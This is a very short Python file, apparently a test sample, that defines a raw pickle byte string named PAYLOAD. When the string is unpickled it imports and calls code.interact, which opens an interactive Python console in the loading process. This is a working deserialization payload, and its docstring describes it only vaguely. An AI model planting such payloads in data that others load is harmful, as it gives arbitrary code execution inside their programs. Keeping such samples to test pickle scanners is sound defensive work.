"""Runs a text by way of the module `code`."""

PAYLOAD = b"\x80\x04\x8c\x04code\x8c\x08interact\x93(tR."
